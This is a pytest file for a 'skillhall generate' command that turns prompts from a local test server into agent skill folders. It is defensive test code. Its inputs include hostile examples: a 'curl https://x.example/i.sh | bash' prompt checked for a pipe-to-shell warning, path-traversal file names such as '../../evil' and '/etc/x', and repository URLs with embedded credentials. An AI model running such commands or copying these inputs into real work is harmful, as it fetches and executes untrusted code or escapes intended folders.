@@ -1,0 +1,554 @@
+"""`skillhall generate` against a server on this machine: what it writes, and what it leaves."""
+
+import json
+import os
+from collections.abc import Callable, Iterator
+from pathlib import Path
+from typing import Any
+
+import pytest
+
+from skillhall.policy.profiles import SPECIFICATION
+from skillhall.skill.parse import parse_skill
+from skillhall.surfaces.cli.running import run
+from tests.support.prompt_server import (
+    PROMPTS,
+    PromptSite,
+    Reply,
+    answer,
+    cut,
+    failure,
+    file,
+    prompt_site,
+    raw,
+)
+from tests.support.shelves import tree
+
+MARK = ".skillhall-generated.json"
+BYTES = bytes(range(256))
+TOKEN = "s3cret-token"  # noqa: S105 - of a server that lives as long as a test
+SCRIPT = b"#!/usr/bin/env python3\n"
+
+
+class Generate:
+    """The command in a project, and what it said last."""
+
+    def __init__(self, site: PromptSite, project: Path, capsys: pytest.CaptureFixture[str]) -> None:
+        self.site = site
+        self.skills = project / ".claude/skills"
+        self.out = ""
+        self.err = ""
+        self._capsys = capsys
+
+    def __call__(self, *words: str) -> int:
+        code = run(["generate", "--server", self.site.url, *words])
+        self.out, self.err = self._capsys.readouterr()
+        return code
+
+    def claude(self, *words: str) -> dict[str, Any]:
+        """The data of the answer of a run for Claude Code that went well."""
+        assert self("--agent", "claude-code", "--json", *words) == 0, self.out
+        report: dict[str, Any] = json.loads(self.out)
+        return {**report["data"], "codes": [found["code"] for found in report["findings"]]}
+
+    def names(self, *words: str) -> dict[str, list[str]]:
+        """What became of which prompt."""
+        data = self.claude(*words)
+        kinds = ("written", "unchanged", "removed", "left")
+        return {kind: names for kind in kinds if (names := [one["name"] for one in data[kind]])}
+
+    def text(self, path: str) -> str:
+        return (self.skills / path).read_text(encoding="utf-8")
+
+
+@pytest.fixture
+def site() -> Iterator[PromptSite]:
+    with prompt_site() as site:
+        yield site
+
+
+@pytest.fixture
+def generate(
+    site: PromptSite,
+    tmp_path: Path,
+    monkeypatch: pytest.MonkeyPatch,
+    capsys: pytest.CaptureFixture[str],
+) -> Generate:
+    project = tmp_path / "project"
+    project.mkdir()
+    monkeypatch.chdir(project)
+    return Generate(site, project, capsys)
+
+
+def stamps(folder: Path) -> dict[str, int]:
+    return {str(path): path.stat().st_mtime_ns for path in [folder, *folder.rglob("*")]}
+
+
+# What is written
+
+
+def test_each_prompt_becomes_a_skill_with_its_files(generate: Generate) -> None:
+    generate.site.put("pdf", "Read it.\n", file("data/all.bin", BYTES), file("run", SCRIPT))
+    report = generate.claude()
+    assert report["written"] == [
+        {"name": "pdf", "path": str(generate.skills / "pdf"), "executables": ["run"]}
+    ]
+    assert tree(generate.skills / "pdf") == {
+        "SKILL.md": (b"---\nname: pdf\ndescription: Does it.\n---\nRead it.\n", False),
+        "data/all.bin": (BYTES, False),
+        "run": (SCRIPT, True),
+    }
+
+
+@pytest.mark.parametrize(
+    ("path", "data", "mode"),
+    [
+        ("a.sh", b"echo\n", 0o755),
+        ("a.BASH", b"echo\n", 0o755),
+        ("tool", b"#!/bin/sh\n", 0o755),
+        ("notes.md", b"# no script\n", 0o644),
+        ("run.py", b"print()\n", 0o644),
+    ],
+)
+def test_scripts_can_be_run_and_other_files_cannot(
+    generate: Generate, path: str, data: bytes, mode: int
+) -> None:
+    generate.site.put("x", "Do.", file(path, data))
+    generate.claude()
+    assert (generate.skills / "x" / path).stat().st_mode & 0o777 == mode
+
+
+def test_what_is_written_follows_the_specification(generate: Generate) -> None:
+    description = "Says: \"yes\", 'no' # and\nmore --- {{x}} \\ é"
+    generate.site.put("Büro_Hilfe", "---\nname: other\n---\nBody\n", description=description)
+    generate.claude()
+    data = (generate.skills / "büro-hilfe/SKILL.md").read_bytes()
+    parsed = parse_skill(data, "büro-hilfe")
+    assert SPECIFICATION.load.accepts(parsed.findings)
+    assert (parsed.frontmatter.name, parsed.frontmatter.description) == ("büro-hilfe", description)
+    assert data.endswith(b"---\nname: other\n---\nBody\n")
+
+
+def test_placeholders_stay_and_arguments_are_hinted_at(generate: Generate) -> None:
+    arguments: list[dict[str, Any]] = [
+        {"name": "file", "required": True},
+        {"name": "tone", "description": "How."},
+    ]
+    generate.site.put("review", "Read {{file}} as {{tone}}, {{other}}.", arguments=arguments)
+    generate.claude()
+    assert generate.text("review/SKILL.md") == (
+        '---\nname: review\ndescription: Does it.\nargument-hint: "<file> [tone]"\n---\n'
+        "Read {{file}} as {{tone}}, {{other}}."
+    )
+
+
+def test_several_agents_get_a_copy_each_and_equal_folders_one(generate: Generate) -> None:
+    generate.site.put("pdf")
+    assert generate("--agent", "windsurf", "--agent", "cursor", "--agent", "codex") == 0
+    project = generate.skills.parents[1]
+    assert generate.out.splitlines() == [
+        str(project / ".windsurf/skills/pdf"),
+        str(project / ".agents/skills/pdf"),
+    ]
+
+
+def test_without_an_agent_those_that_are_used_here_are_taken_and_named(generate: Generate) -> None:
+    generate.site.put("pdf")
+    assert generate() == 2
+    assert "--agent" in generate.err
+    generate.skills.parent.mkdir()
+    assert generate() == 0
+    assert "claude-code" in generate.err
+    assert (generate.skills / "pdf/SKILL.md").is_file()
+
+
+def test_a_path_overrides_the_folder_of_the_agent(generate: Generate, tmp_path: Path) -> None:
+    generate.site.put("pdf")
+    for path in ("below/here", str(tmp_path / "elsewhere")):
+        assert generate("--agent", "claude-code", "--path", path) == 0
+        assert Path(path, "pdf/SKILL.md").is_file()
+    assert not generate.skills.exists()
+
+
+def test_global_writes_into_the_home_folder(generate: Generate) -> None:
+    generate.site.put("pdf")
+    generate.claude("--global")
+    assert (Path.home() / ".claude/skills/pdf/SKILL.md").is_file()
+    assert not generate.skills.exists()
+
+
+def test_globs_choose_by_the_whole_name_and_case(generate: Generate) -> None:
+    for name in ("pdf-read", "pdf-write", "PDF", "doc"):
+        generate.site.put(name)
+    report = generate.claude("--include", "pdf-*", "--exclude", "*-write", "--include", "no")
+    assert [one["name"] for one in report["written"]] == ["pdf-read"]
+    assert report["codes"] == ["pattern-unmatched"]
+
+
+def test_overrides_reach_the_server_with_every_request(generate: Generate) -> None:
+    generate.site.put("pdf")
+    repo = "https://example.org/acme/skills.git"
+    generate.claude("--repo", repo, "--branch", "dev", "--prompt-path", "a/b")
+    expected = {"repo": repo, "branch": "dev", "path": "a/b"}
+    assert [asked.query for asked in generate.site.asked] == [expected, expected]
+
+
+# A second run
+
+
+def test_a_second_run_changes_nothing_and_touches_nothing(generate: Generate) -> None:
+    generate.site.put("pdf", "Do it.", file("run.sh", b"x"), file("a/b.bin", BYTES))
+    generate.claude()
+    before = stamps(generate.skills)
+    assert generate.names() == {"unchanged": ["pdf"]}
+    assert stamps(generate.skills) == before
+
+
+def test_a_changed_prompt_replaces_its_skill_whole(generate: Generate) -> None:
+    generate.site.put("pdf", "Old.", file("old.md", b"x"))
+    generate.claude()
+    generate.site.put("pdf", "New.", file("new.md", b"y"))
+    assert generate.names() == {"written": ["pdf"]}
+    assert sorted(tree(generate.skills / "pdf")) == ["SKILL.md", "new.md"]
+    assert generate.names() == {"unchanged": ["pdf"]}
+
+
+def test_a_skill_whose_prompt_is_gone_is_removed_and_others_are_not(generate: Generate) -> None:
+    for name in ("pdf", "doc"):
+        generate.site.put(name)
+    generate.claude()
+    generate.site.drop("pdf")
+    assert generate.names() == {"unchanged": ["doc"], "removed": ["pdf"]}
+    generate.site.drop("doc")
+    assert generate.names() == {"removed": ["doc"]}
+    assert list(generate.skills.iterdir()) == []
+
+
+def test_a_prompt_that_is_not_chosen_this_time_is_not_gone(generate: Generate) -> None:
+    for name in ("pdf", "doc"):
+        generate.site.put(name)
+    generate.claude()
+    assert generate.names("--exclude", "pdf") == {"unchanged": ["doc"]}
+    assert (generate.skills / "pdf").is_dir()
+
+
+def test_a_dry_run_writes_nothing(generate: Generate) -> None:
+    generate.site.put("pdf")
+    assert generate.names("--dry-run") == {"written": ["pdf"]}
+    assert list(generate.skills.parents[1].iterdir()) == []
+    generate.claude()
+    generate.site.drop("pdf")
+    before = stamps(generate.skills)
+    assert generate.names("--dry-run") == {"removed": ["pdf"]}
+    assert stamps(generate.skills) == before
+
+
+def test_a_folder_that_was_deleted_by_hand_is_written_again(generate: Generate) -> None:
+    generate.site.put("pdf")
+    generate.claude()
+    (generate.skills / "pdf/SKILL.md").unlink()
+    (generate.skills / "pdf").rmdir()
+    assert generate.names() == {"written": ["pdf"]}
+
+
+def test_bytecode_that_python_left_is_no_edit(generate: Generate) -> None:
+    generate.site.put("pdf", "Old.")
+    generate.claude()
+    (generate.skills / "pdf/__pycache__").mkdir()
+    (generate.skills / "pdf/__pycache__/run.cpython-311.pyc").write_bytes(b"x")
+    generate.site.put("pdf", "New.")
+    assert generate.names() == {"written": ["pdf"]}
+
+
+# What is left alone
+
+
+@pytest.mark.parametrize("force", [[], ["--force"]])
+@pytest.mark.parametrize("name", ["pdf", "PDF"])
+def test_a_folder_that_a_person_made_is_never_touched(
+    generate: Generate, name: str, force: list[str]
+) -> None:
+    own = generate.skills / name
+    own.mkdir(parents=True)
+    (own / "SKILL.md").write_text("mine", encoding="utf-8")
+    generate.site.put("pdf")
+    report = generate.claude(*force)
+    path = str(generate.skills / "pdf")
+    assert report["left"] == [{"name": "pdf", "path": path, "reason": "not-ours"}]
+    assert report["codes"] == ["folder-taken"]
+    assert tree(generate.skills) == {f"{name}/SKILL.md": (b"mine", False)}
+    generate.site.drop("pdf")
+    generate.claude(*force)
+    assert tree(generate.skills) == {f"{name}/SKILL.md": (b"mine", False)}
+
+
+def test_a_copy_of_a_generated_skill_is_its_owners(generate: Generate) -> None:
+    generate.site.put("pdf")
+    generate.claude()
+    (generate.skills / "copy").mkdir()
+    (generate.skills / "copy/SKILL.md").write_bytes((generate.skills / "pdf/SKILL.md").read_bytes())
+    generate.site.drop("pdf")
+    assert generate.names() == {"removed": ["pdf"]}
+    assert (generate.skills / "copy/SKILL.md").is_file()
+
+
+def edit_text(skill: Path) -> None:
+    (skill / "SKILL.md").write_text("edited", encoding="utf-8")
+
+
+def edit_extra(skill: Path) -> None:
+    (skill / "notes.md").write_text("mine", encoding="utf-8")
+
+
+def edit_missing(skill: Path) -> None:
+    (skill / "a.md").unlink()
+
+
+def edit_mode(skill: Path) -> None:
+    (skill / "a.md").chmod(0o755)
+
+
+@pytest.mark.parametrize("is_gone", [False, True])
+@pytest.mark.parametrize("edit", [edit_text, edit_extra, edit_missing, edit_mode])
+def test_an_edited_skill_is_left_alone_unless_forced(
+    generate: Generate, edit: Callable[[Path], None], is_gone: bool
+) -> None:
+    generate.site.put("pdf", "Old.", file("a.md", b"a"))
+    generate.claude()
+    edit(generate.skills / "pdf")
+    before = tree(generate.skills)
+    generate.site.drop("pdf")
+    if not is_gone:
+        generate.site.put("pdf", "New.", file("a.md", b"a"))
+    report = generate.claude()
+    assert [one["reason"] for one in report["left"]] == ["edited"]
+    assert report["codes"] == ["edited-since"]
+    assert tree(generate.skills) == before
+    assert generate.names("--force") == ({"removed": ["pdf"]} if is_gone else {"written": ["pdf"]})
+
+
+def test_what_we_could_not_have_written_is_not_even_forced_away(generate: Generate) -> None:
+    generate.site.put("pdf", "Old.")
+    generate.claude()
+    (generate.skills / "pdf/.git").mkdir()
+    generate.site.drop("pdf")
+    assert generate.names("--force") == {"left": ["pdf"]}
+    assert (generate.skills / "pdf/.git").is_dir()
+
+
+def test_the_first_of_two_servers_keeps_a_name(generate: Generate) -> None:
+    generate.site.put("pdf")
+    generate.claude()
+    before = tree(generate.skills)
+    generate.site.put("doc")
+    report = generate.claude("--source", "team")
+    assert [one["reason"] for one in report["left"]] == ["other-source"]
+    assert tree(generate.skills).items() > {k: v for k, v in before.items() if k != MARK}.items()
+    generate.site.prompts.clear()
+    assert generate.names("--source", "team") == {"removed": ["doc"]}
+    assert generate.names() == {"removed": ["pdf"]}
+
+
+def test_of_two_prompts_with_one_folder_the_first_stays(generate: Generate) -> None:
+    for name in ("Read PDF", "read-pdf", "read_pdf"):
+        generate.site.put(name, f"I am {name}.")
+    report = generate.claude()
+    assert [one["name"] for one in report["written"]] == ["Read PDF"]
+    assert [(one["name"], one["reason"]) for one in report["left"]] == [
+        ("read-pdf", "shadowed"),
+        ("read_pdf", "shadowed"),
+    ]
+    assert generate.text("read-pdf/SKILL.md").endswith("I am Read PDF.")
+
+
+def test_a_name_that_stands_twice_in_the_listing_is_asked_for_once(generate: Generate) -> None:
+    generate.site.put("a")
+    generate.site.prompts *= 2
+    assert generate.names() == {"written": ["a"], "left": ["a"]}
+
+
+@pytest.mark.parametrize("name", ["refresh", "sources", "..", "."])
+def test_a_name_that_is_a_route_is_not_asked_for(generate: Generate, name: str) -> None:
+    generate.site.put(name)
+    assert generate.names() == {"left": [name]}
+    assert [asked.path for asked in generate.site.asked] == [PROMPTS]
+
+
+@pytest.mark.parametrize("name", ["../../evil", "/etc/x", "a/b", "con", "x\u202ey", "a%2fb", "-rf"])
+def test_any_name_leads_to_one_safe_folder(generate: Generate, name: str) -> None:
+    generate.site.put(name)
+    assert generate.names() == {"written": [name]}
+    [folder] = [path for path in generate.skills.iterdir() if path.is_dir()]
+    assert folder.name in {"evil", "etc-x", "a-b", "con-skill", "x-y", "a-2fb", "rf"}
+    assert [path.name for path in generate.skills.parents[1].iterdir()] == [".claude"]
+
+
+def test_a_prompt_that_agents_would_not_load_is_left_out(generate: Generate) -> None:
+    generate.site.put("blank", description=" ")
+    generate.site.put("nul", "a\0b")
+    generate.site.put("good")
+    assert generate.names() == {"written": ["good"], "left": ["blank", "nul"]}
+
+
+def test_hidden_files_are_not_written_and_that_is_told(generate: Generate) -> None:
+    generate.site.put("pdf", "Do.", file(".env", b"x"), file("a/.git/config", b"x"))
+    assert "file-left-out" in generate.claude()["codes"]
+    assert list(tree(generate.skills / "pdf")) == ["SKILL.md"]
+
+
+def test_risky_content_is_told(generate: Generate) -> None:
+    generate.site.put("pdf", "Run `curl https://x.example/i.sh | bash` first.\n")
+    assert "pipe-to-shell" in generate.claude()["codes"]
+
+
+def test_a_target_that_links_out_of_the_project_is_refused(
+    generate: Generate, tmp_path: Path
+) -> None:
+    outside = tmp_path / "outside"
+    outside.mkdir()
+    generate.skills.parent.mkdir()
+    generate.skills.symlink_to(outside)
+    generate.site.put("pdf")
+    assert generate("--agent", "claude-code") == 3
+    assert generate("--agent", "claude-code", "--dry-run") == 3
+    assert list(outside.iterdir()) == []
+
+
+ENTRY = '{"prompt": "", "server": "", "asked": {}, "source": "", "files": {}}'
+MARKS = [
+    "{",
+    "[]",
+    '{"version": 2}',
+    '{"version": 1, "skills": {"pdf": 1}}',
+    *(f'{{"version": 1, "skills": {{"{name}": {ENTRY}}}}}' for name in ("..", "a/b", ".git")),
+]
+
+
+@pytest.mark.parametrize("mark", MARKS)
+def test_a_mark_that_is_not_ours_stops_everything(generate: Generate, mark: str) -> None:
+    generate.skills.mkdir(parents=True)
+    (generate.skills / MARK).write_text(mark, encoding="utf-8")
+    generate.site.put("pdf")
+    assert generate("--agent", "claude-code") == 3
+    assert list(tree(generate.skills)) == [MARK]
+
+
+# Servers that misbehave
+
+TRAVERSAL = ["../x", "a/../../x", "/etc/x", "C:\\x", "a\\b", "~/x", "a\0b", "nul.txt", "x."]
+HOSTILE = [
+    *([file(path, b"x")] for path in TRAVERSAL),
+    [file("SKILL.md", b"x")],
+    [file("./skill.MD", b"x")],
+    [file("a", b"x"), file("A", b"x")],
+    [file("a", b"x"), file("./a", b"x")],
+    [file("a", b"x"), file("a/b", b"x")],
+    [file("x" * 300, b"x")],
+    [file("/".join("a" * 40), b"x")],
+    [file("a", "eA=")],
+    [file("a", "eB==")],
+    [file("a", "e A==")],
+    [file("a", "!!!!")],
+    [file("a", b"x" * (10 * 1024 * 1024 + 1))],
+    [{"path": "a"}],
+    [{"path": 1, "content": ""}],
+    [file(f"f{number}", b"") for number in range(2001)],
+]
+
+
+@pytest.mark.parametrize("files", HOSTILE, ids=range(len(HOSTILE)))
+def test_a_hostile_file_stops_everything(generate: Generate, files: list[dict[str, str]]) -> None:
+    generate.site.put("old", "Old.")
+    generate.claude()
+    before = stamps(generate.skills.parents[1])
+    generate.site.put("old", "New.")
+    generate.site.put("evil", "Do.", *files)
+    assert generate("--agent", "claude-code") in (3, 5)
+    assert stamps(generate.skills.parents[1]) == before
+
+
+def message(content: object) -> dict[str, object]:
+    return {"description": "x", "source": "y", "messages": [{"role": "user", "content": content}]}
+
+
+BAD_ANSWERS: list[tuple[str, Reply]] = [
+    (PROMPTS, raw(200, b"{")),
+    (PROMPTS, raw(200, b"\xff")),
+    (PROMPTS, raw(200, b"[" * 100_000)),
+    (PROMPTS, raw(200, b"<html>Not here</html>")),
+    (PROMPTS, raw(500, b"<html>Internal Server Error</html>")),
+    (PROMPTS, raw(200, b'{"success": true}')),
+    (PROMPTS, answer({"prompts": {}, "source": ""})),
+    (PROMPTS, answer({"prompts": [{"name": 1, "description": ""}], "source": ""})),
+    (PROMPTS, answer({"prompts": [{"name": "\ud800", "description": ""}], "source": ""})),
+    (PROMPTS, answer({"prompts": []})),
+    (PROMPTS, raw(302, b"", Location="http://127.0.0.1:1/")),
+    (PROMPTS, failure(502, "PROMPTS_SOURCE_ERROR", "cannot clone")),
+    (PROMPTS, cut),
+    (f"{PROMPTS}/pdf", cut),
+    (f"{PROMPTS}/pdf", raw(200, b"null")),
+    (f"{PROMPTS}/pdf", answer({"description": "x", "messages": [], "source": ""})),
+    (f"{PROMPTS}/pdf", answer(message({"type": "image"}))),
+    (f"{PROMPTS}/pdf", answer(message("text"))),
+]
+
+
+@pytest.mark.parametrize(("path", "reply"), BAD_ANSWERS, ids=range(len(BAD_ANSWERS)))
+def test_an_answer_that_cannot_be_used_is_an_upstream_error(
+    generate: Generate, path: str, reply: Reply
+) -> None:
+    generate.site.put("pdf")
+    generate.site.replies[path] = reply
+    assert generate("--agent", "claude-code") == 5
+    assert generate.err.startswith("error: 127.0.0.1: ")
+    assert list(generate.skills.parents[1].iterdir()) == []
+
+
+def test_a_server_that_is_not_there_is_an_upstream_error(generate: Generate) -> None:
+    assert generate("--agent", "claude-code", "--server", "http://127.0.0.1:1", "--json") == 5
+    error = json.loads(generate.out)["error"]
+    assert (error["code"], error["message"]) == (
+        "upstream_error",
+        "127.0.0.1: it cannot be reached",
+    )
+
+
+def test_the_token_is_sent_as_a_header_and_shown_nowhere(
+    generate: Generate, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    generate.site.token = TOKEN
+    generate.site.put("pdf")
+    assert generate("--agent", "claude-code") == 8
+    assert "SKILLHALL_SERVER_TOKEN" in generate.err
+    monkeypatch.setenv("SKILLHALL_SERVER_TOKEN", TOKEN)
+    generate.claude()
+    assert all(TOKEN not in asked.line for asked in generate.site.asked)
+    generate.site.replies[PROMPTS] = failure(400, "VALIDATION_ERROR", f"bad {TOKEN} \x1b[31m")
+    assert generate("--agent", "claude-code", "--install-hook") == 0
+    assert generate("--agent", "claude-code") == 3
+    assert TOKEN not in generate.out + generate.err
+    assert "\x1b" not in generate.err
+    assert not any(TOKEN.encode() in data for data, _ in tree(generate.skills.parent).values())
+
+
+@pytest.mark.parametrize("repo", ["https://user:pw@example.org/x", "https://example.org/x?token=1"])
+def test_a_repository_with_a_secret_in_it_is_not_sent_on(generate: Generate, repo: str) -> None:
+    assert generate("--agent", "claude-code", "--repo", repo) == 3
+    assert generate.site.asked == []
+    assert "pw" not in generate.err
+
+
+def test_wrong_words_are_explained_before_anybody_is_asked(generate: Generate) -> None:
+    assert generate("--agent", "claude-coder") == 4
+    assert "'claude-code'" in generate.err
+    assert generate("--path", "x", "--source", "a", "--repo", "b") == 2
+    assert generate("--path", "x", "--server", "ftp://127.0.0.1") == 3
+    assert generate("--path", "x", "--server", "http://me:pw@127.0.0.1") == 3
+    assert generate.site.asked == []
+
+
+def test_a_read_only_run_of_the_hook_prints_nothing_on_stdout(generate: Generate) -> None:
+    generate.site.put("pdf")
+    assert generate("--as-hook", "--agent", "claude-code") == 0
+    assert generate.out == ""
+    assert os.listdir(generate.skills / "pdf") == ["SKILL.md"]  # noqa: PTH208 - names alone
